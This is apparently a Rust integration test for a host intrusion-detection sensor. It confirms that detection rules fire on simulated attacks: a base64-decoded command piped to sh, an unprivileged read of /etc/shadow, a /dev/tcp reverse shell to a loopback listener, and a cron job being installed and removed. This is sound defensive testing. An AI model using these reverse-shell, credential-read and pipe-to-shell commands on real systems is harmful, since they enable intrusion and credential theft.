//! The attacks of the README, by the real program with the bundled rules. How soon they are told is not asserted: timing belongs to `bench`.

use serde_json::Value;
use std::{
    fs,
    io::{BufRead, BufReader, Write},
    net::TcpListener,
    os::unix::process::CommandExt,
    path::{Path, PathBuf},
    process::{Child, Command, Stdio},
    sync::mpsc::{Receiver, channel},
    time::{Duration, Instant},
};
use support::Scratch;

/// How long the sensor may take to start in an emulated guest on a busy host.
const START: Duration = Duration::from_secs(120);

/// A running sensor and its findings.
struct Sensor {
    child: Child,
    lines: Receiver<Value>,
}

impl Sensor {
    fn start(dir: &Scratch) -> Self {
        let mut command = Command::new(program());
        command.args(["run", "--output", "json", "--rules"]).arg(rules());
        command.args(["--listen", &format!("unix:{}", dir.name("socket"))]);
        let mut child = command.stdout(Stdio::piped()).stderr(Stdio::piped()).stdin(Stdio::null()).spawn().expect("the sensor starts");
        let (sender, ready) = channel();
        let errors = BufReader::new(child.stderr.take().expect("piped"));
        std::thread::spawn(move || errors.lines().map_while(Result::ok).for_each(|line| drop(sender.send(line))));
        let mut said = Vec::new();
        let deadline = Instant::now() + START;
        while !said.last().is_some_and(|l: &String| l.contains(" is ready ")) {
            let left = deadline.saturating_duration_since(Instant::now());
            said.push(ready.recv_timeout(left).unwrap_or_else(|_| panic!("the sensor did not get ready: {said:#?}")));
        }
        let (sender, lines) = channel();
        let output = BufReader::new(child.stdout.take().expect("piped"));
        std::thread::spawn(move || {
            for line in output.lines().map_while(Result::ok) {
                let _ = sender.send(serde_json::from_str(&line).expect("each line is a JSON object"));
            }
        });
        Self { child, lines }
    }

    /// The finding of a rule for a process whose command line holds `needle`.
    fn finding(&self, rule: &str, needle: &str) -> Value {
        let deadline = Instant::now() + START;
        let mut others = Vec::new();
        loop {
            let left = deadline.saturating_duration_since(Instant::now());
            let Ok(line) = self.lines.recv_timeout(left) else { panic!("no finding of `{rule}` with `{needle}`; found: {others:#?}") };
            let text = |path: &[&str]| path.iter().fold(&line, |v, k| &v[*k]).as_str().unwrap_or_default().to_owned();
            let found = (text(&["rule", "name"]), text(&["process", "command_line"]));
            if found.0 == rule && found.1.contains(needle) {
                return line;
            }
            others.push(found);
        }
    }
}

impl Drop for Sensor {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// The program: that of the guest, or the one that was built beside this test.
fn program() -> PathBuf {
    std::env::var_os("SENSOR").map_or_else(
        || {
            let test = std::env::current_exe().expect("a running program");
            test.ancestors().nth(2).expect("target/debug/deps").join("sensor")
        },
        PathBuf::from,
    )
}

fn rules() -> PathBuf {
    std::env::var_os("SENSOR_RULES").map_or_else(|| Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules"), PathBuf::from)
}

fn shell(script: &str) -> Command {
    let mut command = Command::new("bash");
    command.args(["-c", script]).stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null());
    command
}

#[test]
fn the_attacks_of_the_readme_are_found() {
    // Others' tests would add their own findings to what this one reads.
    let _turn = support::watch();
    let dir = Scratch::new("attacks");
    let sensor = Sensor::start(&dir);

    // An encoded command, decoded into a shell.
    assert!(shell("echo aWQK | base64 -d | sh").status().expect("bash").success());
    let found = sensor.finding("Linux Base64 Encoded Pipe to Shell", "base64 -d | sh");
    assert_eq!(found["event"]["kind"], "alert");
    assert_eq!(found["rule"]["author"][0], "pH-T (Nextron Systems)");
    assert_eq!(found["threat"]["technique"]["id"][0], "T1140");
    assert_eq!(found["process"]["parent"]["pid"], std::process::id());
    assert!(found["sensor"]["score"]["total"].as_f64().expect("a number") >= 20.0, "{found}");

    // The password hashes, read by somebody who may not.
    assert!(!shell("cat /etc/shadow").uid(65534).gid(65534).status().expect("bash").success());
    let found = sensor.finding("Denied Read Of The Password Hash File", "cat /etc/shadow");
    assert_eq!((&found["file"]["path"], &found["event"]["outcome"]), (&"/etc/shadow".into(), &"failure".into()));
    assert_eq!(found["user"]["id"], "65534");

    // A shell whose input and output is a connection.
    let listener = TcpListener::bind("127.0.0.1:0").expect("loopback");
    let port = listener.local_addr().expect("bound").port();
    let mut victim = shell(&format!("exec 3<>/dev/tcp/127.0.0.1/{port}; sh <&3 >&3 2>&3")).spawn().expect("bash");
    let (mut attacker, _) = listener.accept().expect("the shell connects");
    attacker.write_all(b"exit\n").expect("a connection");
    assert!(victim.wait().expect("a child").success());
    let found = sensor.finding("Network Connection Made By A Shell", "/dev/tcp/127.0.0.1");
    assert_eq!((&found["destination"]["ip"], &found["destination"]["port"]), (&"127.0.0.1".into(), &port.into()));

    // A job for cron, and its removal. The name is the test's own; cron runs none with a dot in it.
    let job = format!("/etc/cron.d/sensor.test.{}", std::process::id());
    let made_folder = !Path::new("/etc/cron.d").exists() && fs::create_dir("/etc/cron.d").is_ok();
    assert!(shell(&format!("echo '# nothing' > {job}; rm {job}")).status().expect("bash").success());
    let found = sensor.finding("Cron Job Installed Outside The Package Manager", &job);
    assert_eq!(found["file"]["path"], job.as_str());
    let found = sensor.finding("Cron Job Removed Outside The Package Manager", &job);
    assert_eq!(found["file"]["path"], job.as_str());
    if made_folder {
        fs::remove_dir("/etc/cron.d").expect("empty again");
    }
}
